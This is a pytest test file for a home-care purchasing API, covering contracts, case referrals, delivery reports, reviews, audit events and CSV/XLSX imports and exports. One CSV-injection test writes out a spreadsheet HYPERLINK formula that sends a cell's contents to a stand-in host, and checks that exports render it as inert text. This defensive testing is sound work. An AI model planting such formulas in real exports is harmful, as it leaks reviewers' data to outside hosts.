"""Purchased services end to end through the API, on both stores."""

import csv
import hashlib
import io
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from uuid import UUID, uuid4

import pytest
from openpyxl import Workbook, load_workbook

from api.backend import open_backend
from api.bodylimit import UPLOAD_BODY
from api.imports import MAX_UNPACKED, _xlsx, read_rows
from api.spreadsheet import XLSX
from domain.actor import Actor
from domain.clock import today
from domain.commands import Idempotency
from domain.case import ServiceCase
from domain.contract import Contract, PaymentStatement, delivery_id, holds_contact_or_id
from domain.errors import InvalidInput
from domain.receipt import CommandReceipt
from domain.orgs import OrgUnit
from domain.purchasing import DeliveryRow
from tests.conftest import ADMIN
from tests.helpers import at_once

TODAY = today()


@pytest.fixture(autouse=True)
def the_day_each_test_begins():
    """TODAY is the day (Shanghai) when each test begins, not when the suite did: a suite that runs past
    midnight would otherwise report deliveries for the day before their cases were referred."""
    global TODAY
    TODAY = today()


@pytest.fixture
def market(api, desk):
    """A supervisor of Licheng, a home-care contract with provider ngo-a, and its contractor."""
    supervisor = api.token("supervisor", "350502")
    body = {"provider": "ngo-a", "service_kind": "home_care", "unit": "hour", "unit_price": "80.00",
            "budget": "2000.00", "starts_on": (TODAY - timedelta(days=60)).isoformat(),
            "ends_on": (TODAY + timedelta(days=60)).isoformat(), "org_units": ["350502"]}
    r = api.client.post("/v1/contracts", json=body, headers=supervisor)
    assert r.status_code == 201, r.text
    return {"supervisor": supervisor, "contract": r.json(), "body": body,
            "contractor": api.token("contractor", provider="ngo-a", user="ngo-a-staff")}


def referred_case(desk, market) -> dict:
    case = desk.open(kind="home_care")
    r = desk.post(f"/v1/cases/{case['id']}/referral", {"contract_id": market["contract"]["id"]})
    assert r.status_code == 200, r.text
    return case


def workbook_bytes(book: Workbook) -> bytes:
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def csv_as_workbook(content: bytes) -> bytes:
    """A CSV as a spreadsheet that keeps each cell's text as it reads saves it as a workbook."""
    book = Workbook()
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        book.active.append(row)
    return workbook_bytes(book)


def deliver(api, market, case_id: str, reference: str, units: int = 2, day: date | None = None):
    return api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries",
                           json={"case_id": case_id, "delivered_on": (day or TODAY).isoformat(), "units": units,
                                 "reference": reference}, headers=market["contractor"])


class TestContracts:
    def test_a_contract_starts_with_its_whole_budget_left(self, market):
        ledger = market["contract"]
        assert (ledger["budget"], ledger["remaining"], ledger["delivered"], ledger["pending_units"]) == (
            "2000.00", "2000.00", "0.00", 0)

    @pytest.mark.parametrize("field,value", [("unit_price", 80.5), ("unit_price", "8,0"), ("unit", "litre"),
                                             ("service_kind", "haircut"), ("org_units", ["999999"]),
                                             ("provider", "ngo a|b"), ("starts_on", "0001-01-01"),
                                             ("ends_on", "9999-12-31"), ("starts_on", 0), ("ends_on", "20991231"),
                                             ("starts_on", "2026-01-01T09:00:00+08:00"),
                                             ("budget", "0"), ("budget", "0.00")])
    def test_bad_fields_are_422_naming_them(self, api, market, field, value):
        r = api.client.post("/v1/contracts", json={**market["body"], field: value}, headers=market["supervisor"])
        assert r.status_code == 422
        assert r.json()["errors"][0]["field"].startswith(field)

    def test_an_item_of_a_list_is_named_alike_whichever_check_refuses_it(self, api, market):
        """The body's shape (pydantic) and the domain's rules name the same item the same way."""
        for value in ([None], ["999999"]):
            r = api.client.post("/v1/contracts", json={**market["body"], "org_units": value},
                                headers=market["supervisor"])
            assert r.status_code == 422 and r.json()["errors"][0]["field"] == "org_units[0]", r.text

    def test_a_case_worker_may_not_create_one(self, api, desk, market):
        assert desk.post("/v1/contracts", market["body"]).status_code == 403


class TestReferral:
    def test_the_contractor_then_sees_the_case_with_only_what_a_visit_needs(self, api, desk, market):
        case = referred_case(desk, market)
        r = api.client.get(f"/v1/cases/{case['id']}", headers=market["contractor"])
        assert r.status_code == 200
        assert set(r.json()["visit_contact"]) == {"name", "phone", "address"}
        assert case["_client"]["id_number"] not in r.text and r.json()["need"] is None

    def test_a_contractor_never_sees_a_case_not_referred_to_it(self, api, desk, market):
        other = desk.open(kind="home_care")
        assert api.client.get(f"/v1/cases/{other['id']}", headers=market["contractor"]).status_code == 404
        assert api.client.get(f"/v1/clients/{other['client_id']}", headers=market["contractor"]).status_code == 403
        r = api.client.post(f"/v1/cases/{other['id']}/notes", json={"text": "x"}, headers=market["contractor"])
        assert r.status_code == 403

    def test_the_contractor_lists_only_its_referred_cases(self, api, desk, market):
        desk.open(kind="home_care")
        mine = referred_case(desk, market)
        last = desk.post(f"/v1/cases/{mine['id']}/notes", {"text": "x"})
        r = api.client.get("/v1/cases", params={"min_position": last.headers["x-position"]},
                           headers=market["contractor"])
        assert [c["id"] for c in r.json()["items"]] == [mine["id"]]

    def test_a_provider_whose_id_differs_only_in_case_lists_none_of_them(self, api, desk, market):
        mine = referred_case(desk, market)
        last = desk.post(f"/v1/cases/{mine['id']}/notes", {"text": "x"})
        other = api.token("contractor", provider="NGO-A", user="other-staff")
        for fmt in ("json", "csv"):
            r = api.client.get("/v1/cases", params={"min_position": last.headers["x-position"], "format": fmt},
                               headers=other)
            assert r.status_code == 200 and mine["id"] not in r.text

    def test_a_contract_for_another_kind_is_refused(self, desk, market):
        case = desk.open(kind="rehabilitation")
        r = desk.post(f"/v1/cases/{case['id']}/referral", {"contract_id": market["contract"]["id"]})
        assert r.status_code == 409 and "home_care" in r.json()["detail"]

    def test_a_contract_that_does_not_cover_the_unit_is_refused(self, api, market):
        outside = api.token("case_worker", "350503")
        client = api.client.post("/v1/clients", json={**__import__("tests.helpers", fromlist=["x"]).client_body(
            org_unit="350503")}, headers=outside).json()
        case = api.client.post("/v1/cases", json={"kind": "home_care", "client_id": client["id"],
                                                  "org_unit": "350503", "need": "x"}, headers=outside).json()
        r = api.client.post(f"/v1/cases/{case['id']}/referral", json={"contract_id": market["contract"]["id"]},
                            headers=outside)
        assert r.status_code in (409, 422)

    def test_an_unknown_contract_is_422(self, desk):
        case = desk.open(kind="home_care")
        r = desk.post(f"/v1/cases/{case['id']}/referral", {"contract_id": "00000000-0000-0000-0000-000000000009"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "contract_id"


class TestDeliveries:
    def test_a_resent_report_answers_the_first_answer_and_records_nothing(self, api, desk, market):
        case = referred_case(desk, market)
        first = deliver(api, market, case["id"], "R-001")
        again = deliver(api, market, case["id"], "R-001")
        assert first.status_code == again.status_code == 201
        assert again.json() == first.json() and first.json()["amount"] == "160.00"
        assert again.headers["x-position"] == first.headers["x-position"]
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert (ledger["delivered_units"], ledger["remaining"]) == (2, "1840.00")

    def test_a_reference_sent_again_with_another_delivery_is_422_naming_what_differs(self, api, desk, market):
        case, other = referred_case(desk, market), referred_case(desk, market)
        deliver(api, market, case["id"], "R-001")
        corrected = deliver(api, market, case["id"], "R-001", units=5)
        assert corrected.status_code == 422 and corrected.json()["errors"][0]["field"] == "reference"
        assert "(units 2)" in corrected.json()["errors"][0]["reason"]
        elsewhere = deliver(api, market, other["id"], "R-001")
        assert elsewhere.status_code == 422 and f"case_id {case['id']}" in elsewhere.json()["errors"][0]["reason"]
        rows = csv_file([(case["id"], TODAY, 3, "R-001")])
        answered = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import", content=rows,
                                   headers={**market["contractor"], "Content-Type": "text/csv"}).json()
        assert answered["refused"] == 1 and answered["items"][0]["reason"].startswith("reference: is already")
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert ledger["delivered_units"] == 2

    def test_a_key_first_answered_by_a_report_already_recorded_stays_bound_to_that_answer(self, api, desk, market):
        case = referred_case(desk, market)
        deliver(api, market, case["id"], "R-001")
        url, key = f"/v1/contracts/{market['contract']['id']}/deliveries", {"Idempotency-Key": "resend-1"}

        def send(reference: str, units: int):
            return api.client.post(url, json={"case_id": case["id"], "delivered_on": TODAY.isoformat(),
                                              "units": units, "reference": reference},
                                   headers={**market["contractor"], **key})

        resent = send("R-001", 2)
        assert resent.status_code == 201 and resent.headers["idempotent-replayed"] == "true"
        assert send("R-001", 2).json() == resent.json()
        other = send("R-002", 3)  # another report under the key already used: refused, not recorded
        assert other.status_code == 422 and other.json()["errors"][0]["field"] == "Idempotency-Key"
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert (ledger["delivered_units"], ledger["remaining"]) == (2, "1840.00")

    def test_a_reference_may_not_hold_the_person_s_id_number_or_phone(self, api, desk, market):
        """A reference is a plain fact in the log, the views, frozen statements and exports: contractors
        key their own records by ID number or phone, which would outlive the person's erasure."""
        case = referred_case(desk, market)
        number, phone = case["_client"]["id_number"], case["_client"]["phone"]
        for reference in (number, f"HC-{number}", f"{number}34", f"ZC{number}34",  # a certificate number
                          phone, f"{phone[:3]}.{phone[3:7]}.{phone[7:]}", "+86-13812345678", "0086-13812345678",
                          "138-1234-5678", "(138)1234-5678", "138_1234_5678", "20261208-13812345678",
                          "13812345678-01", "A1-13812345678", "No.1-13812345678"):
            r = deliver(api, market, case["id"], reference)
            assert r.status_code == 422 and "ID number or a mobile" in r.json()["detail"], (reference, r.text)
        for reference in ("HC-2026-11-0001", "9f13812345678a2c",  # a hex serial may hold 11 digits of that shape
                          "20261208000012345678", "2026-12-08-13", "350582-20261208-0001"):
            assert deliver(api, market, case["id"], reference).status_code == 201, reference

    @pytest.mark.parametrize("shape", [
        "350582-{day}-{n:04}",  # a site code, a date and a sequence number: joined, an ID number's shape
        "{n:04}-7047-1643-5462-409", "10.186.85.35-{n:04}", "15.08.2024-{n:03}",  # joined, some a mobile's
        "16-2-{day}", "174-{day}", "16-{day}-{n}",
    ])
    def test_references_of_dates_and_codes_in_groups_are_no_id_or_mobile_number(self, shape):
        refused = [ref for n in range(10_000) if holds_contact_or_id(
            ref := shape.format(day=(TODAY - timedelta(days=n % 20_000)).strftime("%Y%m%d"), n=n))]
        assert not refused, refused[:5]

    def test_a_new_reference_may_not_begin_with_an_apostrophe(self, api, desk, market):
        """A spreadsheet takes a leading apostrophe for the mark of a text, and an import takes off the one
        the CSV export puts before a formula: '-2, exported and imported back, would come back as -2."""
        case = referred_case(desk, market)
        r = deliver(api, market, case["id"], "'-2")
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "reference"
        contract = api.app.get_contract(UUID(market["contract"]["id"]))  # one recorded before the rule
        contract.trigger_event(Contract.DeliveryReported, actor=ADMIN.as_dict(), delivery_id=delivery_id(
            contract.id, "'-2"), reference="'-2", case_id=UUID(case["id"]), delivered_on=TODAY.isoformat(), units=2,
                               amount="160.00")
        api.app.save(contract)
        resent = deliver(api, market, case["id"], "'-2")
        assert resent.status_code == 201 and resent.json()["reference"] == "'-2"

    @pytest.mark.parametrize("day", [1763596800, "1763596800", "20261120"])
    def test_the_day_delivered_is_iso_8601_text(self, api, desk, market, day):
        case = referred_case(desk, market)
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries", headers=market["contractor"],
                            json={"case_id": case["id"], "delivered_on": day, "units": 1, "reference": "D-1"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "delivered_on"

    @pytest.mark.parametrize("units", [True, "3", 2.0])
    def test_units_must_be_a_json_whole_number(self, api, desk, market, units):
        case = referred_case(desk, market)
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries", headers=market["contractor"],
                            json={"case_id": case["id"], "delivered_on": TODAY.isoformat(), "units": units,
                                  "reference": "U-1"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "units"

    def test_a_case_not_referred_is_409(self, api, desk, market):
        other = desk.open(kind="home_care")
        assert deliver(api, market, other["id"], "R-002").status_code == 409

    def test_beyond_the_budget_is_409(self, api, desk, market):
        case = referred_case(desk, market)
        assert deliver(api, market, case["id"], "R-003", units=25).status_code == 201
        r = deliver(api, market, case["id"], "R-004", units=1)
        assert r.status_code == 409 and "budget" in r.json()["detail"]

    def test_outside_the_period_is_409_and_in_the_future_is_422(self, api, desk, market):
        case = referred_case(desk, market)
        assert deliver(api, market, case["id"], "R-005", day=TODAY - timedelta(days=90)).status_code == 409
        r = deliver(api, market, case["id"], "R-006", day=TODAY + timedelta(days=1))
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "delivered_on"

    @pytest.mark.parametrize("written", ["{day}", "{day}T00:00:00", "{day}T00:00:00Z", "{day}T00:00:00.000+08:00"])
    def test_a_day_is_taken_as_clients_write_it_a_midnight_included(self, api, desk, market, written):
        case = referred_case(desk, market)
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries", headers=market["contractor"],
                            json={"case_id": case["id"], "delivered_on": written.format(day=TODAY.isoformat()),
                                  "units": 1, "reference": "M-1"})
        assert r.status_code == 201 and r.json()["delivered_on"] == TODAY.isoformat(), r.text

    def test_a_day_before_the_case_was_referred_is_409(self, api, desk, market):
        case = referred_case(desk, market)  # referred today, under a contract that began 60 days ago
        r = deliver(api, market, case["id"], "R-007", day=TODAY - timedelta(days=1))
        assert r.status_code == 409 and "before the case was referred" in r.json()["detail"]
        assert deliver(api, market, case["id"], "R-008", day=TODAY).status_code == 201

    def test_a_day_after_the_case_was_closed_is_409_until_it_is_reopened(self, api, desk, market, monkeypatch):
        stamped = [datetime.now(timezone.utc) - timedelta(days=2)]
        for event_class in (ServiceCase.CaseOpened, ServiceCase.CaseEvent):
            monkeypatch.setattr(event_class, "create_timestamp", staticmethod(lambda: stamped[0]))
        case = referred_case(desk, market)  # referred two days ago
        stamped[0] += timedelta(days=1)
        assert desk.post(f"/v1/cases/{case['id']}/closure", {"outcome": "withdrawn"}).status_code == 200
        monkeypatch.undo()
        closed_on = TODAY - timedelta(days=1)
        assert deliver(api, market, case["id"], "C-1", day=closed_on).status_code == 201
        after = deliver(api, market, case["id"], "C-2")
        assert after.status_code == 409 and f"after the case was closed on {closed_on}" in after.json()["detail"]
        assert desk.post(f"/v1/cases/{case['id']}/reopening", {"reason": "back"}).status_code == 200
        assert deliver(api, market, case["id"], "C-2").status_code == 201

    def test_another_providers_contractor_cannot_see_the_contract(self, api, desk, market):
        case = referred_case(desk, market)
        stranger = api.token("contractor", provider="ngo-b")
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries",
                            json={"case_id": case["id"], "delivered_on": TODAY.isoformat(), "units": 1,
                                  "reference": "X"}, headers=stranger)
        assert r.status_code == 404

    def test_a_delivery_for_a_case_outside_a_readers_scope_is_404(self, api, desk, market):
        case = referred_case(desk, market)  # in Licheng (350502), on a contract for the whole district
        delivery = deliver(api, market, case["id"], "R-007").json()
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/{delivery['id']}"
        api.app.add_org_units(ADMIN, [OrgUnit("350502001", "海滨街道", "township")])
        township = api.token("case_worker", "350502001")  # sees the contract, not the district's cases
        assert api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=township).status_code == 200
        made_up = str(uuid4())
        hidden, absent = (api.client.get(u, headers=township) for u in (url, url.replace(delivery["id"], made_up)))
        assert (hidden.status_code, absent.status_code) == (404, 404)
        assert hidden.json()["detail"] == f"delivery {delivery['id']} not found"  # as for one that does not exist
        assert absent.json()["detail"] == f"delivery {made_up} not found"
        review = api.client.post(url + "/review", json={"accepted": True}, headers=township)
        assert review.status_code == 404 and review.json()["detail"] == hidden.json()["detail"]
        assert api.client.get(url, headers=market["supervisor"]).status_code == 200
        assert api.client.get(url, headers=market["contractor"]).status_code == 200


class TestDeliveryList:
    def test_a_contractor_reconciles_its_deliveries_by_status_and_month(self, api, desk, market):
        case = referred_case(desk, market)
        base = f"/v1/contracts/{market['contract']['id']}"
        for reference in ("L-2", "L-1", "L-3"):
            deliver(api, market, case["id"], reference, units=1)
        last = desk.post(f"{base}/deliveries/{delivery_id(UUID(market['contract']['id']), 'L-2')}/review",
                         {"accepted": True})
        listed = api.client.get(f"{base}/deliveries", params={"min_position": last.headers["x-position"]},
                                headers=market["contractor"]).json()
        assert [(d["reference"], d["status"]) for d in listed["items"]] == [
            ("L-1", "pending"), ("L-2", "accepted"), ("L-3", "pending")]
        assert listed["items"][1]["amount"] == "80.00" and listed["items"][1]["statement_id"] is None
        month = TODAY.strftime("%Y-%m")
        pending = api.client.get(f"{base}/deliveries", params={"status": "pending", "month": month, "limit": 1},
                                 headers=market["contractor"]).json()
        assert [d["reference"] for d in pending["items"]] == ["L-1"] and pending["next_cursor"]
        exported = api.client.get(f"{base}/deliveries", params={"format": "csv"}, headers=market["contractor"])
        assert exported.text.splitlines()[0].lstrip("\ufeff").startswith("reference,id,case_id")
        bad = api.client.get(f"{base}/deliveries", params={"month": "2026-13"}, headers=market["contractor"])
        assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "month"

    def test_an_auditor_searching_a_case_finds_what_was_billed_for_it_and_who_was_shown_it(self, api, desk, market):
        """Who did what on every case and every paid delivery (DOMAIN.md): the contract's events about
        the case's deliveries, and the reads of it, are found by the case's id."""
        case, other = referred_case(desk, market), referred_case(desk, market)
        deliver(api, market, other["id"], "O-1")
        deliver(api, market, case["id"], "C-1")
        contract_url = f"/v1/contracts/{market['contract']['id']}/deliveries"
        for reference in ("O-1", "C-1"):
            accepted = api.client.post(f"{contract_url}/{delivery_id(UUID(market['contract']['id']), reference)}/review",
                                       json={"accepted": True}, headers=market["supervisor"])
            assert accepted.status_code == 200, accepted.text
        stated = api.client.post(f"/v1/contracts/{market['contract']['id']}/statements",  # lists O-1 and C-1
                                 json={"period": TODAY.strftime("%Y-%m")}, headers=market["supervisor"])
        assert stated.status_code == 201, stated.text
        deliver(api, market, case["id"], "C-2")
        rejected = f"{contract_url}/{delivery_id(UUID(market['contract']['id']), 'C-2')}"
        assert api.client.post(f"{rejected}/review", json={"accepted": False, "reason": "住院"},
                               headers=market["supervisor"]).status_code == 200
        assert api.client.get(rejected, headers=market["contractor"]).json()["reason"] == "住院"  # a read of it
        api.client.get(f"/v1/cases/{case['id']}/history", headers=market["supervisor"])
        api.client.get(f"/v1/cases/{case['id']}", headers=market["supervisor"])
        last = api.client.post(f"/v1/cases/{other['id']}/notes", json={"text": "x"}, headers=market["supervisor"])
        items = api.client.get("/v1/audit/events", headers=api.token("auditor"), params={
            "case_id": case["id"], "min_position": last.headers["x-position"]}).json()["items"]
        found = [(i["type"], i["actor"]["user"]) for i in items if i["aggregate_type"] != "ServiceCase"]
        supervisor = found[-1][1]
        assert [t for t, _ in found if t.startswith("Deliver")] == [
            "DeliveryReported", "DeliveryAccepted", "DeliveriesStated", "DeliveryReported", "DeliveryRejected"]
        assert ("PersonalDataRead", supervisor) in found and ("PersonalDataRead", "ngo-a-staff") in found
        assert {"case", "history", "delivery"} <= {i["data"]["resource"] for i in items if i["type"] == "PersonalDataRead"}
        assert all(i["data"].get("case_id", case["id"]) == case["id"] for i in items)
        theirs = {case["id"], str(delivery_id(UUID(market["contract"]["id"]), "C-2"))}  # the reason read
        assert all(i["data"].get("resource_id", case["id"]) in theirs for i in items)

    def test_a_retried_rejection_answers_its_reason_again_and_appends_nothing(self, api, desk, market):
        """Not even a read of the reason: a phone retrying N times would put N reads on the audit trail."""
        case = referred_case(desk, market)
        deliver(api, market, case["id"], "R-1")
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/{delivery_id(UUID(market['contract']['id']), 'R-1')}"
        headers = {**market["supervisor"], "Idempotency-Key": "reject-r-1"}
        first = api.client.post(f"{url}/review", json={"accepted": False, "reason": "住院"}, headers=headers)
        assert first.status_code == 200 and first.json()["reason"] == "住院"
        head = api.app.recorder.max_notification_id()
        for _ in range(3):
            again = api.client.post(f"{url}/review", json={"accepted": False, "reason": "住院"}, headers=headers)
            assert again.headers["idempotent-replayed"] == "true" and again.json() == first.json()
        assert api.app.recorder.max_notification_id() == head

    def test_a_delivery_whose_case_the_view_has_not_reached_is_listed_all_the_same(self, api, desk, market):
        """The list must agree with the contract's ledger, which the contract itself keeps."""
        case = referred_case(desk, market)
        last = deliver(api, market, case["id"], "V-1")
        url, params = f"/v1/contracts/{market['contract']['id']}/deliveries", {"min_position": last.headers["x-position"]}
        assert api.client.get(url, params=params, headers=market["supervisor"]).status_code == 200
        with api.client.app.state.backend.views.write() as tx:
            tx.execute("DELETE FROM view_cases WHERE id = ?", (case["id"],))  # as if the view were behind
        for reader in (market["supervisor"], api.token("auditor"), api.token("admin")):
            listed = api.client.get(url, headers=reader).json()["items"]
            assert [d["reference"] for d in listed] == ["V-1"]
        api.app.add_org_units(ADMIN, [OrgUnit("350502001", "海滨街道", "township")])
        assert api.client.get(url, headers=api.token("case_worker", "350502001")).json()["items"] == []

    def test_a_reference_that_reads_as_a_formula_is_exported_as_text(self, api, desk, market):
        """A reviewer opening the export must not run what a contractor wrote (CSV injection)."""
        reference = '=HYPERLINK("http://x.example/?"&C2,"open")'
        last = deliver(api, market, referred_case(desk, market)["id"], reference)
        url, params = f"/v1/contracts/{market['contract']['id']}/deliveries", {"min_position": last.headers["x-position"]}
        book = api.client.get(url, params={**params, "format": "xlsx"}, headers=market["supervisor"])
        cell = load_workbook(io.BytesIO(book.content)).active["A2"]
        assert (cell.value, cell.data_type) == (reference, "s")
        text = api.client.get(url, params={**params, "format": "csv"}, headers=market["supervisor"]).text
        assert next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[0] == "reference"
        assert list(csv.reader(io.StringIO(text)))[1][0] == "'" + reference

    def test_staff_see_only_the_deliveries_of_cases_in_their_scope(self, api, desk, market):
        case = referred_case(desk, market)  # in Licheng (350502), on a contract for the whole district
        last = deliver(api, market, case["id"], "S-1")
        url = f"/v1/contracts/{market['contract']['id']}/deliveries"
        params = {"min_position": last.headers["x-position"]}
        api.app.add_org_units(ADMIN, [OrgUnit("350502001", "海滨街道", "township")])
        township = api.token("case_worker", "350502001")  # sees the contract, not the district's cases
        assert api.client.get(url, params=params, headers=township).json()["items"] == []
        district = api.client.get(url, params=params, headers=market["supervisor"]).json()["items"]
        assert [d["reference"] for d in district] == ["S-1"]
        assert api.client.get(url, headers=api.token("contractor", provider="ngo-b")).status_code == 404


class TestReview:
    def test_accept_and_reject_move_the_ledger(self, api, desk, market):
        case = referred_case(desk, market)
        ok = deliver(api, market, case["id"], "R-010", units=3).json()
        bad = deliver(api, market, case["id"], "R-011", units=1).json()
        base = f"/v1/contracts/{market['contract']['id']}/deliveries"
        assert desk.post(f"{base}/{ok['id']}/review", {"accepted": True}).json()["status"] == "accepted"
        assert desk.post(f"{base}/{bad['id']}/review", {"accepted": False}).status_code == 422
        r = desk.post(f"{base}/{bad['id']}/review", {"accepted": False, "reason": "未上门"})
        assert r.json()["status"] == "rejected"
        assert desk.post(f"{base}/{bad['id']}/review", {"accepted": True}).status_code == 409
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["contractor"]).json()
        assert (ledger["accepted"], ledger["rejected"], ledger["pending"], ledger["remaining"]) == (
            "240.00", "80.00", "0.00", "1760.00")

    def test_a_reason_is_given_only_with_a_rejection(self, api, desk, market):
        """An acceptance records no reason: one sent with it would be dropped without a word."""
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/{deliver(api, market, case['id'], 'AR-1').json()['id']}"
        r = desk.post(f"{url}/review", {"accepted": True, "reason": "家属代签，材料不全"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "reason"
        assert api.client.get(url, headers=market["supervisor"]).json()["status"] == "pending"

    def test_a_rejection_stored_before_reasons_were_sealed_still_reads(self, api):
        """Version 1 of DeliveryRejected kept the reason as a plain fact; it is upcast on reading."""
        mapper = api.app.mapper
        event = Contract.DeliveryRejected(originator_id=uuid4(), originator_version=3, timestamp=datetime.now(
            timezone.utc), actor={"user": "li", "role": "supervisor"}, delivery_id=uuid4(), person=None, personal={})
        stored = mapper.to_stored_event(event)
        state = mapper.transcoder.decode(stored.state)
        for name in ("class_version", "person", "personal"):
            del state[name]
        old = replace(stored, state=mapper.transcoder.encode({**state, "reason": "未上门"}))
        read = mapper.to_domain_event(old)
        assert (read.person, read.personal, read.delivery_id) == (None, {"reason": "未上门"}, event.delivery_id)

    @pytest.mark.parametrize("accepted", ["yes", 1, "true"])
    def test_a_decision_must_be_a_json_boolean(self, api, desk, market, accepted):
        case = referred_case(desk, market)
        delivery = deliver(api, market, case["id"], "R-020").json()
        r = desk.post(f"/v1/contracts/{market['contract']['id']}/deliveries/{delivery['id']}/review",
                      {"accepted": accepted})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "accepted"


def csv_file(rows: list[tuple], chinese: bool = False) -> bytes:
    header = "案件编号,服务日期,数量,报告编号" if chinese else "case_id,delivered_on,units,reference"
    return ("\n".join([header] + [",".join(str(v) for v in row) for row in rows]) + "\n").encode()


class TestImport:
    def test_each_row_is_answered_and_a_second_import_records_nothing(self, api, desk, market):
        case = referred_case(desk, market)
        other = desk.open(kind="home_care")
        rows = [(case["id"], TODAY, 1, "B-1"), (case["id"], TODAY, "two", "B-2"),
                (other["id"], TODAY, 1, "B-3"), (case["id"], TODAY, 2, "B-4")]
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        headers = {**market["contractor"], "Content-Type": "text/csv"}
        first = api.client.post(url, content=csv_file(rows, chinese=True), headers=headers).json()
        assert [(i["row"], i["result"]) for i in first["items"]] == [
            (2, "recorded"), (3, "refused"), (4, "refused"), (5, "recorded")]
        assert "units" in first["items"][1]["reason"] and "not referred" in first["items"][2]["reason"]
        second = api.client.post(url, content=csv_file(rows), headers=headers).json()
        assert (second["recorded"], second["duplicate"], second["refused"]) == (0, 2, 2)

    def test_an_old_excel_workbook_is_named_with_what_to_do(self, api, market):
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        r = api.client.post(url, content=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504),
                            headers={**market["contractor"], "Content-Type": "application/vnd.ms-excel"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "file" and ".xlsx" in r.text, r.text

    def test_days_as_a_spreadsheet_set_to_chinese_saves_them_in_csv_are_read(self, api, desk, market):
        case = referred_case(desk, market)
        rows = [(case["id"], f"{TODAY.year}/{TODAY.month}/{TODAY.day}", 1, "Z-1"), (case["id"], "2026/13/1", 1, "Z-2")]
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        answered = api.client.post(url, content=csv_file(rows, chinese=True),
                                   headers={**market["contractor"], "Content-Type": "text/csv"}).json()
        assert [(i["row"], i["result"]) for i in answered["items"]] == [(2, "recorded"), (3, "refused")]
        assert "delivered_on" in answered["items"][1]["reason"]

    @pytest.mark.parametrize("sent", [{"If-Match": "bogus"}, {"Idempotency-Key": "not a key"}, {}])
    def test_who_may_not_import_is_told_so_before_anything_sent_is_read(self, api, market, sent):
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        headers = {"Content-Type": "text/csv", **sent}
        assert api.client.post(url, content=b"not,a,file\n", headers=headers).status_code == 401
        r = api.client.post(url, content=b"", headers={**headers, **market["supervisor"]})
        assert r.status_code == 403

    def test_units_that_are_not_a_plain_whole_number_refuse_their_row(self, api, desk, market):
        case = referred_case(desk, market)
        rows = [(case["id"], TODAY, units, f"W-{n}") for n, units in enumerate(["²", "٣", "9" * 5000, " 2 "])]
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import", content=csv_file(rows),
                            headers={**market["contractor"], "Content-Type": "text/csv"})
        assert [i["result"] for i in r.json()["items"]] == ["refused", "refused", "refused", "recorded"]
        assert all("units" in i["reason"] for i in r.json()["items"][:3])

    def test_a_day_is_written_as_yyyy_mm_dd_in_a_file_too(self, api, desk, market):
        """Python 3.11 reads an ISO week day or 20261129 as a day; the JSON deliveries refuse them."""
        case = referred_case(desk, market)
        week = TODAY.isocalendar()
        rows = [(case["id"], day, 1, f"Y-{n}")
                for n, day in enumerate([f"{week.year}-W{week.week:02}-{week.weekday}", TODAY.strftime("%Y%m%d")])]
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import", content=csv_file(rows),
                            headers={**market["contractor"], "Content-Type": "text/csv"})
        assert [i["result"] for i in r.json()["items"]] == ["refused", "refused"], r.text
        assert all(i["reason"].startswith("delivered_on") for i in r.json()["items"])

    def test_blank_rows_keep_the_numbers_of_the_rows_after_them(self, api, desk, market):
        case = referred_case(desk, market)
        content = csv_file([(case["id"], TODAY, 1, "N-1")]) + f"\n,,,\n{case['id']},{TODAY},two,N-2\n".encode()
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import", content=content,
                            headers={**market["contractor"], "Content-Type": "text/csv"})
        assert [(i["row"], i["result"]) for i in r.json()["items"]] == [(2, "recorded"), (5, "refused")]

    def test_an_xlsx_upload_as_multipart(self, api, desk, market):
        case = referred_case(desk, market)
        book = Workbook()
        book.active.append(["case_id", "delivered_on", "units", "reference"])
        book.active.append([case["id"], TODAY, 3, "X-1"])
        data = io.BytesIO()
        book.save(data)
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import",
                            files={"file": ("deliveries.xlsx", data.getvalue())}, headers=market["contractor"])
        assert r.status_code == 200 and r.json()["recorded"] == 1

    @pytest.mark.parametrize("fmt,saved", [("csv", None), ("xlsx", None), ("csv", csv_as_workbook)],
                             ids=["csv", "xlsx", "csv saved as xlsx"])
    def test_the_contractors_own_export_imported_back_records_nothing_again(self, api, desk, market, fmt, saved):
        """The CSV export puts an apostrophe before a reference a spreadsheet would take for a formula;
        imported back, as downloaded or saved as a workbook keeping the apostrophe, each row must find
        its delivery by the reference sent, not record it again."""
